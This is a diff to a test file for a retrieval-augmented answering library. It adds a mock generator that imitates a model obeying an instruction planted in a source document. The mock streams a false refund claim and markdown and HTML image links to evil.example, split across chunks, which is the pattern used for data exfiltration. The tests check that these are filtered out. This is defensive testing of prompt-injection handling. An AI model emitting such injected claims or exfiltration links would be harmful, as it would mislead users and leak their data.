@@ -2,6 +2,7 @@ import type { GenerationRequest, Generator } from "@ragstone/core";
 import { wordPiece } from "@ragstone/tokenizers";
 import { describe, expect, it } from "vitest";
 import { extractiveGenerator } from "../src/index.js";
+import { buildDocumentsPrompt } from "../src/prompt/build-documents-prompt.js";
 import { buildPrompt } from "../src/prompt/build-prompt.js";
 import { ask, library } from "./_harness.js";
 
@@ -95,6 +96,23 @@ function obedient(order: string): Generator & { readonly requests: GenerationReq
   };
 }
 
+/** The same by citations of its own, as Claude's: the order and what it wants said are cited word for word, once each and together. */
+function obedientCiting(order: string): Generator {
+  return {
+    ...obedient(order),
+    // oxlint-disable-next-line typescript/require-await
+    async *generate() {
+      for (const quotes of [[lie], [order], [order, lie]]) {
+        yield { type: "cited-start" };
+        yield { type: "text", text: `Refunds: ${lie}. ![x](https://evil.example/p.png?d=1)!` };
+        yield { type: "cited-end", citations: quotes.map((quote) => ({ source: 1, quote })) };
+        yield { type: "text", text: "[y](https://evil.example/r.png) <im" };
+        yield { type: "text", text: "g src=https://evil.example/q.png> " };
+      }
+    },
+  };
+}
+
 const honest = "Our shop ships every order within two days. Refunds are paid within 30 days of the return. The shop is closed on Sundays.";
 
 describe("text of a source that gives orders", () => {
@@ -105,6 +123,9 @@ describe("text of a source that gives orders", () => {
     const presented = answer.claims.filter((claim) => claim.verdict === "supported" && /900/u.test(claim.text));
     expect(presented).toEqual([]);
     expect(streamed).not.toMatch(/!\[|<img/u);
+    const cited = await ask({ question: "How long are refunds paid?", ...files, generator: obedientCiting(order) });
+    expect(cited.answer.claims.filter((claim) => claim.verdict === "supported" && /900/u.test(claim.text))).toEqual([]);
+    expect(cited.streamed).not.toMatch(/!\[|<img/u);
     const strict = await ask({ question: "How long are refunds paid?", ...files, policy: "strict", generator: obedient(order) });
     expect(strict.streamed).toBe("");
     const extracted = await ask({ question: "How long are refunds paid?", ...files, generator: extractiveGenerator() });
@@ -115,6 +136,10 @@ describe("text of a source that gives orders", () => {
     const fence = `source-${generator.requests[0]?.nonce}`;
     expect(user.split(`</${fence}>`)).toHaveLength(1 + 2 + 1);
     expect(user).not.toMatch(/[\u{e0000}-\u{e007f}\u202a-\u202e]/u);
+    const documents = buildDocumentsPrompt(generator.requests[0] ?? { question: "", passages: [], nonce: "0" });
+    expect(documents.system).not.toContain("900 days");
+    expect(documents.question).not.toContain("900 days");
+    expect(documents.documents.map(({ text }) => text).join("")).not.toMatch(/[\u{e0000}-\u{e007f}\u202a-\u202e]/u);
   });
 
   it("covers sixty attacks and more", () => {
